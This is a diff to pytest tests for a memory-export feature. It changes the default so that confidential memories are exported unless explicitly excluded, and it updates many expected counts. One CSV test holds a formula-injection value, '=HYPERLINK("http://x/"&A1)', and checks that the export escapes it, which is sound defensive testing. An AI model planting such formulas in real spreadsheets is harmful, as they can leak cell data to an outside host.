@@ -56,7 +56,7 @@ ANSWERS_ALONE = {"is_duplicate", "duplicate_of", "notice"}
 
 @pytest.fixture
 def many(home: Home) -> tuple[Memory, ...]:
-    """120 memories of the default namespace, newest first, two sensitive; one elsewhere."""
+    """120 memories of the default namespace, newest first, one confidential; one elsewhere."""
     home.services.namespaces.create("work", PERSON)
     drafts = [
         MemoryDraft(
@@ -111,7 +111,7 @@ def test_every_field_comes_back_as_the_port_says_it(
 ) -> None:
     home.services.memories.edit(many[5].id, MemoryPatch(archived=True), PERSON)
     wide = Selection(wanted=MemoryFilter(include_archived=True))
-    done = export(home, target, wide, include_sensitive=True)
+    done = export(home, target, wide)
     told = records(target)
     assert (done.written, done.withheld, done.missing) == (COUNT + 1, 0, 0)
     assert done.namespaces == (("default", COUNT), ("work", 1))
@@ -128,7 +128,7 @@ def test_every_field_comes_back_as_the_port_says_it(
 def test_the_native_api_takes_what_a_line_says(
     home: Home, many: tuple[Memory, ...], target: Path
 ) -> None:
-    export(home, target, include_sensitive=True)
+    export(home, target)
     told = records(target)
     for one in told[:20]:
         given = {name: one[name] for name in READ_AGAIN} | {"namespace": "work", "embed": False}
@@ -144,30 +144,30 @@ def test_the_native_api_takes_what_a_line_says(
 def test_a_file_is_in_the_order_of_the_list(
     home: Home, many: tuple[Memory, ...], target: Path
 ) -> None:
-    export(home, target, sort=Sort.OLDEST, include_sensitive=True)
+    export(home, target, sort=Sort.OLDEST)
     assert [one["id"] for one in records(target)] == [one.id for one in reversed(many)]
     chosen = (many[9].id, many[2].id, many[70].id)
     export(home, target, Selection(chosen), may_replace=True)
     assert [one["id"] for one in records(target)] == list(chosen)
     left = Selection(wanted=ALL.wanted, excluded=frozenset({many[10].id}))
-    done = export(home, target, left, may_replace=True, include_sensitive=True)
+    done = export(home, target, left, may_replace=True)
     assert done.written == COUNT - 1
 
 
-def test_sensitive_memories_stay_out_unless_asked_for(
+def test_confidential_memories_stay_out_on_request(
     home: Home, many: tuple[Memory, ...], target: Path
 ) -> None:
     preview = home.services.exports.preview(ALL, PERSON)
-    assert (preview.total, preview.sensitive) == (COUNT, 2)
+    assert (preview.total, preview.sensitive) == (COUNT, 1)
     chosen = Selection((many[0].id, many[1].id, many[2].id))
     preview = home.services.exports.preview(chosen, PERSON)
-    assert (preview.total, preview.sensitive) == (3, 2)
-    done = export(home, target)
-    assert (done.written, done.withheld) == (COUNT - 2, 2)
+    assert (preview.total, preview.sensitive) == (3, 1)
+    done = export(home, target, include_sensitive=False)
+    assert (done.written, done.withheld) == (COUNT - 1, 1)
     text = target.read_text(encoding="utf-8")
     assert "diagnosis" not in text
-    assert "diary" not in text
-    done = export(home, target, include_sensitive=True, may_replace=True)
+    assert "diary" in text
+    done = export(home, target, may_replace=True)
     assert (done.written, done.withheld) == (COUNT, 0)
     assert "diagnosis" in target.read_text(encoding="utf-8")
 
@@ -179,7 +179,7 @@ def test_trash_and_what_has_expired_stay_out(
     remember(home, "short-lived", expires_at=soon)
     home.services.memories.delete(many[3].id, PERSON)
     home.clock.advance(minutes=10)
-    done = export(home, target, include_sensitive=True)
+    done = export(home, target)
     assert (done.written, done.missing) == (COUNT - 1, 0)
     assert many[3].id not in {one["id"] for one in records(target)}
     chosen = Selection((many[3].id, many[4].id, MemoryId("0" * 36)))
@@ -205,7 +205,7 @@ def test_what_goes_meanwhile_is_counted(home: Home, many: tuple[Memory, ...], ta
         return True
 
     done = export(home, target, watch=watch)
-    assert (done.written, done.withheld, done.missing) == (COUNT - 4, 2, 2)
+    assert (done.written, done.withheld, done.missing) == (COUNT - 2, 0, 2)
     assert "a new one" not in target.read_text(encoding="utf-8")
 
 
@@ -217,13 +217,13 @@ def test_a_table_and_a_text_hold_all_of_them(
     export(home, table, format=ExportFormat.CSV)
     with table.open(encoding="utf-8-sig", newline="") as file:
         rows = list(csv.DictReader(file))
-    assert len(rows) == COUNT - 1
+    assert len(rows) == COUNT + 1
     assert rows[0]["content"] == '\'=HYPERLINK("http://x/"&A1)\nand a line'
     assert rows[-1]["content"] == many[-1].content
     export(home, text, format=ExportFormat.MARKDOWN)
     written = text.read_text(encoding="utf-8")
     assert written.startswith("# Memories\n\n## ")
-    assert written.count("\n- id: `") == COUNT - 1
+    assert written.count("\n- id: `") == COUNT + 1
     assert f"> {many[-1].content}\n" in written
 
 
@@ -295,7 +295,7 @@ def test_a_slow_disk_keeps_no_lock_waiting(
     monkeypatch.setattr(session, "borrow", borrow)
     monkeypatch.setattr(ExportFile, "write", write)
     export(home, target)
-    assert while_writing == [0] * (1 + COUNT - 2)
+    assert while_writing == [0] * (1 + COUNT)
 
 
 @pytest.mark.parametrize("may_replace", [True, False])
@@ -314,7 +314,7 @@ def test_a_disk_that_does_not_write_folders_out_gets_the_file_alone(
         raise OSError(errno.EINVAL, os.strerror(errno.EINVAL))
 
     monkeypatch.setattr("muniment.vault.files.sync_folder", refuse_folder)
-    assert export(home, target, may_replace=may_replace).written == COUNT - 2
+    assert export(home, target, may_replace=may_replace).written == COUNT
     assert seen == [["notes.jsonl"]]
     assert names(target) == ["notes.jsonl"]
 
@@ -335,7 +335,7 @@ def test_a_file_is_replaced_only_where_that_was_said(
     target.write_text("what was there")
     if may_replace:
         export(home, target, may_replace=True)
-        assert len(records(target)) == COUNT - 2
+        assert len(records(target)) == COUNT
         assert stat.S_IMODE(target.stat().st_mode) == 0o600
     else:
         with pytest.raises(ConflictError) as refused:
@@ -369,7 +369,7 @@ def test_what_comes_there_meanwhile_stays(
     assert names(target) == ["notes.jsonl"]
     target.unlink()
     export(home, target)
-    assert len(records(target)) == COUNT - 2
+    assert len(records(target)) == COUNT
 
 
 def refuse(monkeypatch: pytest.MonkeyPatch, name: str, code: int) -> None:
@@ -451,7 +451,7 @@ def test_an_export_is_counted_where_the_memories_are(
 ) -> None:
     export(home, target, Selection(wanted=MemoryFilter()))
     counts = home.services.usage.usage(PERSON).by_actor["person"]["export"]
-    assert (counts.calls, counts.items) == (1, COUNT - 1)
+    assert (counts.calls, counts.items) == (1, COUNT + 1)
     assert home.services.memories.peek(many[4].id, PERSON).access_count == 0
 
 
